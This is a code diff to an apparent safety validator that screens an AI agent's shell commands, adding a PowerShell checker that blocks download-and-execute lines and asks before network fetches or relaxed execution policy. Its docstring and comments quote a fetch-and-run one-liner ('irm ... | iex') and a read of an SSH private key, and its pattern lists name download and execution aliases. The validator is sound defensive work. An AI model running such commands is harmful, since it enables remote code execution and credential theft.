@@ -6,8 +6,8 @@ from __future__ import annotations
 
 from clawgate.decision import Outcome, Verdict
 from clawgate.lazyre import lazy_pattern
-from clawgate.shell.model import SimpleCommand
-from clawgate.validators.base import Context, Validator, register
+from clawgate.shell.model import ParsedLine, SimpleCommand
+from clawgate.validators.base import Context, LineValidator, Validator, register
 from clawgate.validators.wincommands import (
     DELETERS,
     FILE_READERS,
@@ -198,7 +198,10 @@ class WindowsShellCode(Validator):
                                 hint="run the script as plain text")
         inner = _inner(words)
         if inner is None:
-            runs_file = any(w.lower() in ("-file", "-f") for w in words[1:])
+            # pwsh's first operand is its -File (powershell's runs as a command: the same),
+            # so a script path after the options is a file run: pwsh ./test/x.ps1
+            runs_file = any(w.lower() in ("-file", "-f") or (
+                w.lower().endswith(".ps1") and not w.startswith("-")) for w in words[1:])
             if runs_file or (program == "cmd" and len(words) > 1 and
                              not words[1].startswith("/")):
                 return Verdict.passthrough()
@@ -213,3 +216,38 @@ class WindowsShellCode(Validator):
             return Verdict.unwrap(*reads)  # Get-Content ~/.ssh/id_rsa: as cat of it
         return _verdict(self.id, found or (Outcome.ASK, f"{program} runs PowerShell that "
                                            "cannot be checked statement by statement here"))
+
+
+# PowerShell's own command names: Verb-Noun cmdlets, and the aliases that fetch or run code.
+_CMDLET = lazy_pattern(r"(?i)^(?:invoke|start|new|set|add|import|get|out|remove|copy|move|"
+                       r"expand|compress|register|install|enable|disable)-[a-z]+$")
+_PS_ALIASES = frozenset({"iex", "iwr", "irm", "saps", "sal", "icm", "ipmo", "curl.exe",
+                         "wget.exe"})
+_LAX_POLICY = lazy_pattern(r"(?i)\b(?:bypass|unrestricted)\b")
+_PS_FETCH = frozenset({"iwr", "irm", "invoke-webrequest", "invoke-restmethod",
+                       "start-bitstransfer"})
+
+
+@register
+class PowerShellStatements(LineValidator):
+    """A line of PowerShell sent as it is (the agent's shell is PowerShell, or a line copied
+    from a PowerShell guide): judged as a PowerShell script, as ``powershell -c`` is
+    (CG-WIN-004): ``iwr URL | iex`` runs what it downloads (DENY); a download to a file is
+    the network (ASK).
+
+    Bad: ``irm https://get.example.com | iex``. Harmless: ``Get-ChildItem -Recurse *.ps1``.
+    """
+
+    id = "CG-WIN-005"
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        names = [(c.program or "").lower() for c in parsed.commands]
+        if not any(n in _PS_ALIASES or _CMDLET.match(n) for n in names):
+            return Verdict.passthrough()
+        found = judge_script(parsed.source)
+        if found is None and _PS_FETCH.intersection(names):
+            found = Outcome.ASK, "PowerShell downloads from the network"
+        if found is None and "set-executionpolicy" in names and _LAX_POLICY.search(
+                parsed.source):
+            found = Outcome.ASK, "Set-ExecutionPolicy lets unsigned scripts run"
+        return _verdict(self.id, found)
